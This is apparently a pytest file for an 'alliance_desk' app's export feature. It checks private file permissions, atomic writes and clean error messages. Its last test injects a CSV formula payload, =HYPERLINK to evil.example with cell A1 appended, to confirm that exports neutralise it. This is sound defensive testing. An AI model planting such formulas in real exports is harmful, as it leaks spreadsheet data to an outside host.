"""Every file the window writes is private, whole or absent, and safe to open in a spreadsheet."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from alliance_desk.core import wall
from alliance_desk.store import portfolio

HALO = "HALO-7 oncology co-development"


@pytest.fixture
def loose_umask():
    """As on a machine whose umask lets everyone read new files (000)."""
    before = os.umask(0)
    yield
    os.umask(before)


def _exports(window, folder: Path) -> dict[str, Path]:
    """Each export the window offers, written into `folder`."""
    halo = next(a for a in portfolio.list_alliances(window.desk.store) if a.name == HALO)
    window.desk.select_alliance(halo.id)
    written = {}
    window.show_section("stakeholders")
    written["people.csv"] = folder / "people.csv"
    window.stakeholders.export_csv(str(written["people.csv"]))
    written["grid.png"] = folder / "grid.png"
    window.stakeholders.save_png(str(written["grid.png"]))
    window.show_section("habits")
    written["check-ins.csv"] = folder / "check-ins.csv"
    window.habits.export_csv(str(written["check-ins.csv"]))
    window.show_section("risks")
    meetings = window.risks.meetings
    window.risks.tabs.setCurrentWidget(meetings)
    written["meeting.ics"] = folder / "meeting.ics"
    meetings.export_ics(str(written["meeting.ics"]))
    return written


def test_every_export_is_private_even_under_umask_000(
    demo_window, tmp_path: Path, loose_umask, messages
) -> None:
    """People CSV, check-ins CSV, grid picture, calendar invitation: all 0600, and nothing
    but the chosen files is left in the folder (no temporary files)."""
    folder = tmp_path / "exports"
    folder.mkdir()
    written = _exports(demo_window, folder)
    assert messages == []
    for name, path in written.items():
        assert path.stat().st_size > 0, name
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, name
    assert sorted(p.name for p in folder.iterdir()) == sorted(written)


def test_an_export_that_cannot_be_written_says_why_and_leaves_nothing(
    demo_window, tmp_path: Path, messages
) -> None:
    """Into a folder that does not exist, or over a folder: a message, and no file at all."""
    folder = tmp_path / "exports"
    folder.mkdir()
    for target in (folder / "gone" / "people.csv", folder):
        before = sorted(folder.rglob("*"))
        demo_window.show_section("stakeholders")
        halo = next(a for a in portfolio.list_alliances(demo_window.desk.store) if a.name == HALO)
        demo_window.desk.select_alliance(halo.id)
        demo_window.stakeholders.export_csv(str(target))
        assert messages and "cannot be written" in messages[-1][1]
        assert "Traceback" not in messages[-1][1]
        assert sorted(folder.rglob("*")) == before


def test_an_export_replacing_a_file_is_atomic(demo_window, tmp_path: Path, monkeypatch) -> None:
    """If writing fails half-way, the file that was there before is left exactly as it was."""
    import alliance_desk.core.files as files

    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "people.csv"
    target.write_bytes(b"the previous export")
    real = os.fsync

    def failing(fd) -> None:
        real(fd)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", failing)
    demo_window.show_section("stakeholders")
    halo = next(a for a in portfolio.list_alliances(demo_window.desk.store) if a.name == HALO)
    demo_window.desk.select_alliance(halo.id)
    demo_window.stakeholders.export_csv(str(target))
    assert target.read_bytes() == b"the previous export"
    assert [p.name for p in folder.iterdir()] == ["people.csv"]


def test_check_in_notes_that_look_like_formulas_are_inert(demo_window, tmp_path: Path) -> None:
    """A note typed as =HYPERLINK(…) is exported behind a quote, so no spreadsheet runs it."""
    import csv

    from alliance_desk.core.habits import CheckIn
    from alliance_desk.store import habits

    note = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    habits.add_checkin(demo_window.desk.store, CheckIn("bridge", wall.today(), note, 5))
    demo_window.show_section("habits")
    out = tmp_path / "check-ins.csv"
    demo_window.habits.export_csv(str(out))
    cells = [c for row in csv.reader(out.read_text("utf-8-sig").splitlines()) for c in row]
    assert "'" + note in cells
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells)
